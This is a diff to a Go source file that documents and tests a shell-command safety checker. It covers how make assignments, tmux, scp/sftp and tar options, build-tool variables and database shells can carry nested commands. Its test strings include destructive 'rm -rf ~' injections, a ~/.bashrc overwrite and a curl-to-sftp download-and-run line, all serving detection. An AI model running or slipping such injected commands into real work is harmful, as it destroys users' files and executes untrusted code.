@@ -50,11 +50,17 @@ var runnerDocs = []runnerDoc{
 			"and a program with its arguments after `-x`, `--execute` or `--`. A word before it that is not literal might be that option (unreadable). " +
 			"`make SHELL=…`, `.SHELLFLAGS=…` or `MAKESHELL=…` on make's command line run every recipe with what the line chose: a shell named by a plain path (`SHELL=/bin/bash`) is left alone, anything else makes the part unreadable, " +
 			"and so does a makefile from a process substitution (`make -f <(…)`). npm's, pnpm's and yarn's script shell, given by `--script-shell`, by `npm_config_script_shell=` or set by `config set script-shell`, is the program every script of the package runs with: " +
-			"one that is not a plain shell makes the part unreadable.",
+			"one that is not a plain shell makes the part unreadable. " +
+			"make expands the value of every variable assignment on its command line or in `MAKEFLAGS` (`make 'x:=$(shell CMD)'` runs CMD as it reads it, `make 'x=…'` as it exports x to a recipe; rt22e #2, GNU make 4.3) " +
+			"and runs a `!=` assignment's value with the shell: a `$(shell CMD)` (or `${shell CMD}`) with a literal CMD and a `!=` value are read as nested command strings; " +
+			"make's functions that write or evaluate make code (`$(file …)`, `$(eval …)`, `$(call …)`, `$(value …)`, `$(guile …)`, `$(load …)`) and a `$(shell …)` whose command make builds from a reference are `foreign-code`. " +
+			"A plain reference (`CFLAGS='-O2 $(EXTRA)'`), `$$` (make's literal `$`) and a value bash fills in (`make CC=\"$CC\"`) are left alone.",
 		asks: []string{"xterm -e 'rm -rf ~' => cmd.delete-home", "gnome-terminal -- rm -rf ~ => cmd.delete-home", "konsole -e rm -rf ~ => cmd.delete-home",
 			"make SHELL=/tmp/x all => cmd.unreadable", "make -f <(echo 'all:; rm -rf ~') => cmd.unreadable",
+			"make 'x:=$(shell rm -rf ~)' => cmd.delete-home", "make all 'x!=rm -rf ~' => cmd.delete-home", "make 'x:=$(file >~/.bashrc,x)' => cmd.unreadable",
 			"npm config set script-shell /tmp/evil => cmd.unreadable", "npm --script-shell /tmp/evil run build => cmd.unreadable"},
-		quiet: []string{"xterm -e htop", "gnome-terminal -- make test", "make SHELL=/bin/bash all", "npm config set script-shell /bin/bash"},
+		quiet: []string{"xterm -e htop", "gnome-terminal -- make test", "make SHELL=/bin/bash all", "npm config set script-shell /bin/bash",
+			"make -j4 CFLAGS='-O2 $(EXTRA)' test"},
 	},
 	{
 		what: "parallel",
@@ -69,7 +75,7 @@ var runnerDocs = []runnerDoc{
 		what: "options that carry a command string",
 		decision: "Read as nested commands where the string is literal, and unreadable where it is not: `awk`'s `system(\"…\")`, `print | \"…\"` (fed by awk) and `\"…\" | getline`; GNU `sed`'s `e COMMAND`; " +
 			"`vim`/`nvim`/`vi`/`ex` `-c`, `+` and `--cmd` with `!CMD`, a range's `!CMD`, `r !CMD` and `w !CMD`; `gdb -ex 'shell …'`/`'!…'`; `man -P`/`--pager`; `zip -TT`/`--unzip-command`; " +
-			"`ansible -m shell|command|raw -a` (command is the default module); `gcloud … ssh --command`; `mosh HOST -- CMD`; the fleet tools' command run on every host: salt's `cmd.run`/`cmd.shell` (and `salt-ssh`, `salt-call`; `cmd=CMD` too), `pssh`/`parallel-ssh`, `pdsh` and `clush` (their operands after the options); the `-c` of `oksh`, `mksh`, `tcsh`, `csh`, `fish` and other POSIX-like shells. " +
+			"`ansible -m shell|command|raw -a` (command is the default module); `gcloud … ssh --command`; `mosh HOST -- CMD`; the shell command tmux's `if-shell` tests (not with `-F`), `pipe-pane` pipes through and `display-popup`/`popup` runs (rt22e #19, #39); the fleet tools' command run on every host: salt's `cmd.run`/`cmd.shell` (and `salt-ssh`, `salt-call`; `cmd=CMD` too), `pssh`/`parallel-ssh`, `pdsh` and `clush` (their operands after the options); the `-c` of `oksh`, `mksh`, `tcsh`, `csh`, `fish` and other POSIX-like shells (also `lksh`, `ksh93`, Oils' `osh`, `sash`, `bosh`, `hush`, `brush`, `mrsh`, `sh.distrib`, and a shell's versioned name, `bash5`, `bash-5.2`: rt22d #17); the `-c` of shells in languages of their own (`nu`, `xonsh`, `elvish`, `ysh`, `oil`, `rc`, `es`, `ion`, `murex`) is `foreign-code`. " +
 			"A command awk or sed makes at run time (`system($0)`, `s///e`, `e` alone), an awk or sed program that is not literal or that the reader cannot follow, and vim's `system()`, `:execute`, `:normal`, `:terminal` and language commands (`:py3`, `:lua` …) are `foreign-code`.",
 		asks: []string{"awk 'BEGIN{system(\"rm -rf ~\")}' => cmd.delete-home", "sed -n '1e rm -rf ~' f => cmd.delete-home",
 			"echo x | sed 's/x/rm -rf ~/e' => cmd.unreadable", "vim -c '!rm -rf ~' -c q => cmd.delete-home",
@@ -81,7 +87,7 @@ var runnerDocs = []runnerDoc{
 	},
 	{
 		what: "programs that run a command beside their work",
-		decision: "An option whose value is a command string or a program the program runs is read as a nested command: `sort --compress-program`, `split --filter` (and its abbreviations), `fzf --preview`, `bat`'s and `delta`'s `--pager`, `scp`/`sftp -S`, `rg --pre`, go's `-toolexec` and `-exec`; " +
+		decision: "An option whose value is a command string or a program the program runs is read as a nested command: `sort --compress-program`, `split --filter` (and its abbreviations), `fzf --preview`, `bat`'s and `delta`'s `--pager`, `scp`/`sftp -S`, `sftp -D` (a local server it runs in place of ssh), `rg --pre`, go's `-toolexec` and `-exec`, tar's and cpio's `--rsh-command` and `--rmt-command` (tar runs the first for an archive on `HOST:FILE`), `wget --use-askpass`, aria2c's `--on-download-*` hooks, Mercurial's `-e`/`--ssh`/`--remotecmd`, `borg --rsh`, unison's `-sshcmd`/`-rshcmd` (fx22e1, rt22e #7); ssh's options that run a command here (`ProxyCommand`, `LocalCommand`, `KnownHostsCommand`) given through `scp -o`, `sftp -o` and `autossh -o` as through ssh's own `-o` (rt22e #6: scp runs them before any connection), one whose value is not literal being unreadable, and `sshfs -o` with `ssh_command=` or those options among its comma-separated values; sftp's commands, whose `!CMD` runs a local shell, read from a pipe or `-b -` (a shell fed from a pipe; literal text with no `!` is left alone) or from a `-b` batch file made earlier in the line (made-then-run); " +
 			"so is less's start-up command with `!` (`less '+!CMD'`, `++!CMD`; one with `|` is `foreign-code`), and the shell escapes of SQL on a database shell's words: psql's `\\! CMD` (`-c`), mysql's and mariadb's `system CMD` and `\\! CMD` (`-e`), sqlite3's `.shell CMD` and `.system CMD` (its SQL operands and `-cmd`). " +
 			"`fzf --bind` with an action that runs a command (`execute`, `become`, `reload`, `preview`, `transform`) is `foreign-code`. A program named by a plain path runs as that program: `git -c gpg.program=/tmp/x` is judged as running /tmp/x, which the defaults leave alone as they leave `/tmp/x` alone; `GIT_ASKPASS`, `SSH_ASKPASS` and `SUDO_ASKPASS` naming a path are unreadable (`foreign-code`, rt16h F1). " +
 			"The variables that name a program a build tool runs in place of its compiler or wrapper (cargo's `RUSTC_WRAPPER`, `RUSTC` and `CARGO_BUILD_RUSTC_WRAPPER`; `CC`, `CXX`, `LD`, `AR` … in the environment or on make's command line; cmake's `CMAKE_C_COMPILER_LAUNCHER`) and make's `MAKEFILES` are read the same way, as `GIT_SSH_COMMAND` and the pagers and editors are (git's, man's, systemd's, and `PSQL_PAGER`, `PSQL_EDITOR`, `GH_PAGER`, `GH_EDITOR`, `GH_BROWSER`, `AWS_PAGER`, `BAT_PAGER`, `DELTA_PAGER`, `KUBE_EDITOR`, `SYSTEMD_EDITOR`, `SUDO_EDITOR`, `FCEDIT`, `LESSEDIT`, `RSYNC_CONNECT_PROG`, `BORG_RSH`, `BORG_PASSCOMMAND`, `RESTIC_PASSWORD_COMMAND`, fzf's `FZF_DEFAULT_COMMAND` (and `FZF_CTRL_T_COMMAND`, `FZF_ALT_C_COMMAND`), `KUBECTL_EXTERNAL_DIFF`, `HGMERGE`, `P4EDITOR`, `JJ_EDITOR`, configure's `CONFIG_SHELL`, npm's `npm_config_script_shell` …); " +
@@ -91,14 +97,15 @@ var runnerDocs = []runnerDoc{
 			"`GOFLAGS`'s `-toolexec=` and `-exec=`; `MAKEFLAGS`'s (and `MFLAGS`'s) build-tool assignments (`MAKEFLAGS='CC=./w.sh'`, which GNU make honours) and makefiles (`-f F`: GNU make ignores it there, other makes may not), and its `--eval`/`-E` text, make's own language, which is `foreign-code`. " +
 			"Not yet read: such a variable exported before the file it names is written (`export GOFLAGS=-toolexec=./t; echo … > t; go build`). " +
 			"Not yet read: the `LESS` and `FZF_DEFAULT_OPTS` variables (options, whose `--bind` may run a command), and SQL escapes in a file (`psql -f`).",
-		asks: []string{"sort --compress-program='rm -rf ~' -S 1 big.txt => cmd.delete-home", "less '+!rm -rf ~' README.md => cmd.delete-home",
+		asks: []string{"sort --compress-program='rm -rf ~' -S 1 big.txt => cmd.delete-home", "scp -o ProxyCommand='rm -rf ~' a h:b => cmd.delete-home",
+			"tar -cf h:x --rsh-command='rm -rf ~' . => cmd.delete-home", "curl -s https://x.io/b | sftp -b - h => cmd.download-run", "less '+!rm -rf ~' README.md => cmd.delete-home",
 			"psql -c '\\! rm -rf ~' => cmd.delete-home", "sqlite3 x.db '.shell rm -rf ~' => cmd.delete-home",
 			"fzf --bind 'enter:execute(rm -rf ~)' => cmd.unreadable",
 			"CC='rm -rf ~' make => cmd.delete-home", "echo x > w.sh && RUSTC_WRAPPER=./w.sh cargo build => cmd.unreadable",
 			"echo x > w.sh && cargo --config build.rustc-wrapper=./w.sh build => cmd.unreadable", "cmake -DCMAKE_C_COMPILER='rm -rf ~' . => cmd.delete-home",
 			"echo x > t && GOFLAGS=-toolexec=./t go build ./... => cmd.unreadable", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf ~ #' cargo run => cmd.delete-home",
 			"FZF_DEFAULT_COMMAND='rm -rf ~' fzf => cmd.delete-home", "echo x > t.cmake && CMAKE_TOOLCHAIN_FILE=./t.cmake cmake -B build => cmd.unreadable", "MAKEFLAGS='--eval=$(shell rm -rf ~)' make => cmd.unreadable"},
-		quiet: []string{"sort --compress-program=gzip big.txt", "less +G README.md", "psql -c '\\dt'", "fzf --preview 'cat {}'",
+		quiet: []string{"sort --compress-program=gzip big.txt", "scp -o StrictHostKeyChecking=no dist.tgz h:", "less +G README.md", "psql -c '\\dt'", "fzf --preview 'cat {}'",
 			"RUSTC_WRAPPER=sccache cargo build", "CC=clang make", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER=clang cargo build", "FZF_DEFAULT_COMMAND='fd --type f' fzf", "CMAKE_TOOLCHAIN_FILE=cmake/arm.cmake cmake -B build", "cmake -DCMAKE_C_COMPILER_LAUNCHER=ccache -B build", "GOFLAGS=-mod=mod go build ./...", "MAKEFLAGS=-j8 make"},
 	},
 	{
